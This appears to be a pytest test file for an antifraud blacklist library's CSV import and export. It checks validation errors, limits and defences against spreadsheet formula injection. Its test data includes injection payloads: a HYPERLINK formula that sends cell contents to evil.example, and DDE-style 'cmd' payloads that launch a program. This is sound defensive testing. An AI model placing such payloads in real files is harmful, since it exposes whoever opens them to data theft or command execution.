"""Tests for antifraud_common.format.csvio: round trips, row errors, limits, formula injection."""

from __future__ import annotations

import csv
import io
import stat
from datetime import UTC, datetime
from pathlib import Path

import attrs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from antifraud_common.errors import BlacklistFormatError, ConfigurationError
from antifraud_common.format.csvio import (
    COLUMNS,
    CsvFormatError,
    CsvImportResult,
    CsvRowError,
    export_csv,
    import_csv,
)
from antifraud_common.models import TLP, Action, Entry, Reason

T0 = datetime(2026, 1, 1, tzinfo=UTC)
T1 = datetime(2026, 3, 1, 8, 30, tzinfo=UTC)
HEADER = ",".join(COLUMNS[:-1])
GOOD = "phone,138 0013 8000,telecom_fraud,block,mps,A-1,90,amber,2026-01-01,2026-01-01"
CARD = "6222021234567890128"


def _entry(kind: str, value: str, **kw: object) -> Entry:
    fields: dict[str, object] = {
        "reason": "telecom_fraud",
        "action": "block",
        "source": "mps",
        "case_ref": "A-1",
        "confidence": 90,
        "tlp": "amber",
        "listed_at": T0,
        "valid_from": T0,
    }
    fields.update(kw)
    return Entry.from_raw(kind=kind, value=value, **fields)


ENTRIES = [
    _entry("phone", "+8613800138000"),
    _entry("phone", "95588", reason="impersonation", case_ref='=HYPERLINK("http://x")'),
    _entry("phone", "010-6234 5678", case_ref="-2+3", valid_until=T1, tlp="red"),
    _entry("bank_card", CARD, reason="card_trafficking", action="freeze", case_ref="@SUM(A1)"),
    _entry("bank_account", "6217001234567890", action="hold", case_ref="'quoted"),
    _entry("payment_account", "alipay:13800138000", case_ref="公安 2026 第 1 号"),
    _entry("iccid", "89860012345678901234", case_ref="+cmd|' /C calc'!A0", confidence=0),
    _entry("phone", "+8613900139000", case_ref="-1", confidence=100),
]


def _import_text(text: str, **kw: object) -> CsvImportResult:
    return import_csv(io.StringIO(text), **kw)  # type: ignore[arg-type]


def _one_error(text: str) -> CsvRowError:
    result = _import_text(text)
    assert len(result.errors) == 1, result.errors
    return result.errors[0]


# -- round trip ----------------------------------------------------------------------------


def test_round_trip_through_a_file(tmp_path: Path) -> None:
    f = tmp_path / "export.csv"
    assert export_csv(ENTRIES, f) == len(ENTRIES)
    raw = f.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfkind,value,reason,")
    assert raw.count(b"\r\n") == len(ENTRIES) + 1
    assert b"\n" not in raw.replace(b"\r\n", b"")
    assert stat.S_IMODE(f.stat().st_mode) == 0o600
    result = import_csv(f)
    assert result.ok and result.errors == ()
    assert list(result.entries) == ENTRIES
    assert result.rows == len(ENTRIES)


def test_round_trip_through_a_stream() -> None:
    out = io.StringIO()
    export_csv(ENTRIES, out)
    text = out.getvalue()
    assert not text.startswith("\ufeff")  # bom only for files
    assert list(_import_text(text).entries) == ENTRIES


def test_export_neutralises_formulas() -> None:
    out = io.StringIO()
    export_csv(ENTRIES, out)
    lines = out.getvalue().split("\r\n")
    assert lines[0] == ",".join(COLUMNS)
    assert lines[1].startswith("phone,'+8613800138000,")
    assert "tel:95588;phone-context=+86" in lines[2]
    assert '"\'=HYPERLINK(""http://x"")"' in lines[2]
    assert ",'-2+3," in lines[3]
    assert lines[3].endswith(",2026-03-01T08:30:00Z")
    assert ",'@SUM(A1)," in lines[4]
    assert ",''quoted," in lines[5]
    assert "\"'+cmd|' /C calc'!A0\"" in lines[7] or ",'+cmd|' /C calc'!A0," in lines[7]
    # Every cell an application could evaluate starts with the quote.
    for row in csv.reader(io.StringIO(out.getvalue())):
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row)


@settings(max_examples=50, deadline=None)
@given(st.text(min_size=1, max_size=40).filter(lambda s: s.isprintable() and s == s.strip()))
def test_any_case_ref_round_trips(case_ref: str) -> None:
    entry = attrs.evolve(ENTRIES[0], case_ref=case_ref)
    out = io.StringIO()
    export_csv([entry], out)
    assert _import_text(out.getvalue()).entries == (entry,)


def test_mask_cards_export_cannot_be_reimported() -> None:
    out = io.StringIO()
    export_csv(ENTRIES, out, mask_cards=True)
    text = out.getvalue()
    assert CARD not in text
    assert "622202*********0128" in text
    result = _import_text(text)
    assert len(result.entries) == len(ENTRIES) - 1
    assert [(e.line, e.field) for e in result.errors] == [(5, "value")]


# -- accepted input variants ---------------------------------------------------------------


def test_bom_crlf_lf_and_canonicalisation(tmp_path: Path) -> None:
    for newline in ("\r\n", "\n"):
        f = tmp_path / "in.csv"
        f.write_bytes(("\ufeff" + HEADER + newline + GOOD + newline).encode())
        result = import_csv(f)
        assert result.ok
        (e,) = result.entries
        assert e.value == "+8613800138000"
        assert e.reason is Reason.TELECOM_FRAUD and e.action is Action.BLOCK
        assert e.tlp is TLP.AMBER and e.confidence == 90
        assert e.listed_at == T0 and e.valid_until is None
    # A text stream that still carries the BOM.
    assert _import_text("\ufeff" + HEADER + "\n" + GOOD + "\n").ok


def test_columns_in_any_order_and_last_line_without_newline() -> None:
    text = "value,kind,case_ref,reason,action,source,confidence,tlp,valid_from,listed_at\n"
    text += "95588,phone,X-9,impersonation,watch,cbirc,50,green,2026-03-01T08:30:00Z,2026-01-01"
    (e,) = _import_text(text).entries
    assert e.value == "tel:95588;phone-context=+86"
    assert e.valid_from == T1 and e.listed_at == T0


def test_header_only_and_blank_rows() -> None:
    result = _import_text(HEADER + "\r\n")
    assert result.ok and result.entries == () and result.rows == 0
    result = _import_text(HEADER + "\n\n" + ",,,,,,,,,\n" + GOOD + "\n\n")
    assert len(result.entries) == 1 and result.blank_rows == 3 and result.rows == 1


def test_defaults_fill_missing_columns_and_empty_cells() -> None:
    text = "kind,value,case_ref,tlp\nphone,13800138000,A-1,\nphone,13900139000,A-2,red\n"
    result = _import_text(
        text,
        defaults={
            "reason": Reason.TELECOM_FRAUD,
            "action": "block",
            "source": "mps",
            "confidence": 80,
            "tlp": TLP.AMBER,
            "listed_at": T1,
            "valid_from": "2026-01-01",
        },
    )
    assert result.ok
    a, b = result.entries
    assert a.tlp is TLP.AMBER and b.tlp is TLP.RED
    assert a.confidence == 80 and a.listed_at == T1 and a.valid_from == T0


@pytest.mark.parametrize(
    "defaults",
    [{"value": "1"}, {"colour": "red"}, {"confidence": 1.5}, {"confidence": True}],
)
def test_bad_defaults(defaults: dict[str, object]) -> None:
    with pytest.raises(ConfigurationError) as exc:
        _import_text(HEADER + "\n", defaults=defaults)
    assert exc.value.code == "invalid_default"


# -- row errors ----------------------------------------------------------------------------


def _row(**changes: str) -> str:
    cells = dict(zip(COLUMNS[:-1], GOOD.split(","), strict=True))
    cells.update(changes)
    return ",".join(cells[c] for c in COLUMNS[:-1])


@pytest.mark.parametrize(
    ("row", "code", "field"),
    [
        (GOOD + ",extra", "wrong_cell_count", None),
        ("phone,138", "wrong_cell_count", None),
        (_row(value="138O0138OOO"), "letters_not_allowed", "value"),
        (_row(value="12"), "too_short", "value"),
        (_row(value=""), "missing_value", "value"),
        (_row(kind="fax"), "invalid_enum", "kind"),
        (_row(reason="spam"), "invalid_enum", "reason"),
        (_row(action="Block"), "invalid_enum", "action"),
        (_row(tlp="white"), "invalid_enum", "tlp"),
        (_row(source="MPS"), "invalid_agency_id", "source"),
        (_row(source=""), "missing_value", "source"),
        (_row(case_ref=" A-1"), "invalid_case_ref", "case_ref"),
        (_row(confidence="101"), "invalid_confidence", "confidence"),
        (_row(confidence="90.0"), "invalid_confidence", "confidence"),
        (_row(confidence="090"), "invalid_confidence", "confidence"),
        (_row(listed_at="2026/1/1"), "invalid_timestamp", "listed_at"),
        (_row(listed_at="2026-02-30"), "invalid_timestamp", "listed_at"),
        (_row(valid_from="2026-01-01T00:00:00+08:00"), "invalid_timestamp", "valid_from"),
        (_row(case_ref="x" * 2000), "field_too_large", "case_ref"),
        (_row(kind="bank_card", value="6222021234567890123"), "invalid_checksum", "value"),
    ],
)
def test_each_bad_row_is_reported_with_its_line(row: str, code: str, field: str | None) -> None:
    text = HEADER + "\r\n" + GOOD + "\r\n" + row + "\r\n" + _row(value="13900139000") + "\r\n"
    result = _import_text(text)
    assert [e.value for e in result.entries] == ["+8613800138000", "+8613900139000"]
    assert len(result.errors) == 1
    err = result.errors[0]
    assert (err.line, err.code, err.field) == (3, code, field)
    assert err.message
    assert result.rows == 3


def test_validity_window_error() -> None:
    text = ",".join(COLUMNS) + "\n" + GOOD + ",2025-12-31\n"
    err = _one_error(text)
    assert (err.line, err.code, err.field) == (2, "invalid_validity_window", "valid_until")


def test_duplicates_are_reported_not_merged() -> None:
    text = "\n".join(
        [HEADER, GOOD, _row(value="+86 138 0013 8000", case_ref="B-2"), _row(value="95588")]
    )
    result = _import_text(text + "\n")
    assert [e.case_ref for e in result.entries] == ["A-1", "A-1"]
    (err,) = result.errors
    assert (err.line, err.code, err.field) == (3, "duplicate_key", "value")
    assert "line 2" in err.message


def test_duplicate_card_message_is_masked() -> None:
    row = _row(kind="bank_card", value=CARD)
    err = _one_error("\n".join([HEADER, row, row]) + "\n")
    assert err.code == "duplicate_key"
    assert CARD not in err.message and "622202" in err.message


def test_line_numbers_count_physical_lines() -> None:
    multi = _row(case_ref='"multi\nline"')
    text = "\n".join([HEADER, multi, _row(value="13900139000"), _row(value="x")]) + "\n"
    result = _import_text(text)
    assert [err.line for err in result.errors] == [2, 5]
    assert result.errors[0].code == "invalid_case_ref"


def test_every_row_error_is_kept() -> None:
    rows = [_row(value=str(i)) for i in range(5)]
    result = _import_text("\n".join([HEADER, *rows]) + "\n")
    assert [e.line for e in result.errors] == [2, 3, 4, 5, 6]
    assert result.entries == ()
    assert result.errors[0].to_dict() == {
        "line": 2,
        "code": result.errors[0].code,
        "field": "value",
        "message": result.errors[0].message,
    }
    with pytest.raises(CsvFormatError) as exc:
        result.raise_for_errors()
    assert exc.value.code == "csv_row_errors" and exc.value.line == 2
    _import_text(HEADER + "\n" + GOOD + "\n").raise_for_errors()


# -- formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
    ],
)
def test_unescaped_formula_cells_are_refused(payload: str) -> None:
    quoted = '"' + payload.replace('"', '""') + '"'
    for column in ("case_ref", "source", "reason", "confidence", "listed_at", "kind"):
        err = _one_error(HEADER + "\n" + _row(**{column: quoted}) + "\n")
        assert (err.line, err.code, err.field) == (2, "formula_injection", column)


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        ("=HYPERLINK(1)", "formula_injection"),
        ("@SUM(A1)", "formula_injection"),
        ("-2+3", "formula_injection"),
        ("+cmd|' /C calc'!A0", "letters_not_allowed"),
        ("+2+3", "unexpected_character"),
    ],
)
def test_formula_cells_in_the_value_column(payload: str, code: str) -> None:
    err = _one_error(HEADER + "\n" + _row(value=f'"{payload}"') + "\n")
    assert (err.line, err.field) == (2, "value")
    assert err.code == code


def test_plus_phone_and_escaped_cells_are_accepted() -> None:
    text = HEADER + "\n" + _row(value="+86 138 0013 8000", case_ref="'=1+1") + "\n"
    (e,) = _import_text(text).entries
    assert e.value == "+8613800138000" and e.case_ref == "=1+1"
    text = HEADER + "\n" + _row(value="'+8613800138000", case_ref="'plain") + "\n"
    (e,) = _import_text(text).entries
    assert e.value == "+8613800138000" and e.case_ref == "plain"


# -- file-level refusals -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "code", "line"),
    [
        ("", "csv_empty", 1),
        ("\ufeff", "csv_empty", 1),
        (HEADER.replace(",tlp", "") + "\n", "csv_missing_column", 1),
        (HEADER.replace("value,", "") + "\n", "csv_missing_column", 1),
        (HEADER + ",colour\n", "csv_unknown_column", 1),
        (HEADER + ",Kind\n", "csv_unknown_column", 1),
        (HEADER + ",kind\n", "csv_duplicate_column", 1),
        (HEADER + "\n" + GOOD + "\n" + GOOD.replace("A-1", "A\x00") + "\n", "csv_nul_byte", 3),
        (HEADER + '\n"unterminated,' + GOOD + "\n", "csv_syntax", 2),
        (HEADER + '\nphone,"13"8,' + GOOD + "\n", "csv_syntax", 2),
    ],
)
def test_file_level_errors(text: str, code: str, line: int) -> None:
    with pytest.raises(CsvFormatError) as exc:
        _import_text(text)
    assert exc.value.code == code
    assert exc.value.line == line
    assert isinstance(exc.value, BlacklistFormatError)


def test_missing_column_can_come_from_defaults() -> None:
    text = HEADER.replace(",tlp", "") + "\n" + GOOD.replace(",amber", "") + "\n"
    (e,) = _import_text(text, defaults={"tlp": "green"}).entries
    assert e.tlp is TLP.GREEN


def test_ten_megabyte_field_is_refused(tmp_path: Path) -> None:
    f = tmp_path / "big.csv"
    f.write_text(HEADER + "\n" + _row(case_ref="x" * (10 * 1024 * 1024)) + "\n", encoding="utf-8")
    with pytest.raises(CsvFormatError) as exc:
        import_csv(f)
    assert exc.value.code == "csv_field_too_large" and exc.value.line == 2
    # Also when the big field spans many short physical lines.
    big = '"' + "x\n" * 200_000 + '"'
    with pytest.raises(CsvFormatError) as exc:
        _import_text(HEADER + "\n" + _row(case_ref=big) + "\n")
    assert exc.value.code == "csv_field_too_large"


def test_too_many_rows() -> None:
    text = "\n".join([HEADER] + [_row(value=f"1380013800{i}") for i in range(4)]) + "\n"
    assert _import_text(text, max_rows=4).rows == 4
    with pytest.raises(CsvFormatError) as exc:
        _import_text(text, max_rows=3)
    assert exc.value.code == "csv_too_many_rows" and exc.value.line == 5


def test_not_utf8_and_utf16(tmp_path: Path) -> None:
    f = tmp_path / "gbk.csv"
    f.write_bytes((HEADER + "\n" + _row(case_ref="公安") + "\n").encode("gbk"))
    with pytest.raises(CsvFormatError) as exc:
        import_csv(f)
    assert exc.value.code == "csv_not_utf8"
    f.write_bytes((HEADER + "\n").encode("utf-16-le"))
    with pytest.raises(CsvFormatError) as exc:
        import_csv(f)
    assert exc.value.code in {"csv_nul_byte", "csv_not_utf8"}


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError) as exc:
        import_csv(tmp_path / "nope.csv")
    assert exc.value.code == "cannot_read_file"
